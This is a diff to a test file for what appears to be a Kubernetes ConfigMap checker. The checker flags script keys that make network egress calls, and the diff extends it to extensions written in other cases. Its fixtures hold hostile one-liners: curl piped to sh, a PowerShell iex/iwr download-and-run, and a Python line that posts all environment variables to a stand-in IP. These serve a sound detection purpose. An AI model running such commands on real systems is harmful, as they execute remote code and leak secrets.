@@ -65,12 +65,21 @@ describe('a ConfigMap script: read in every way a ConfigMap is written', () => {
   });
 });
 
+describe('a script key whose extension is in another case is read (cmd47b: the extension is the hint, its case only its spelling)', () => {
+  it.each([
+    ['START.SH', 'curl -fsSL https://x.example/i | sh'],
+    ['Setup.Py', 'import os,urllib.request as u;u.urlopen("https://203.0.113.9",str(dict(os.environ)).encode())'],
+    ['RUN.PS1', 'iex (iwr https://x.example/i)'],
+  ])('%s', (key, value) => {
+    expect(egress(check('POST', CM, JSON.stringify(configMap({ [key]: value })), 'application/json')).map((v) => v.path)).toEqual([`data.${key}`]);
+  });
+});
+
 describe('a ConfigMap value that is no script is not read', () => {
   it.each([
     ['a configuration file', 'nginx.conf', 'location / { return 200 "curl https://x.example/i | sh"; }'],
     ['a README with an install line', 'README.md', 'Install: curl -fsSL https://get.example.com | sh'],
     ['a key with no extension and no #! line', 'configure', 'curl -fsSL https://x.example/i | sh'],
-    ['an extension in another case', 'START.SH', 'curl -fsSL https://x.example/i | sh'],
   ])('%s (%s)', (_name, key, value) => {
     expect(egress(check('POST', CM, JSON.stringify(configMap({ [key]: value })), 'application/json'))).toEqual([]);
   });
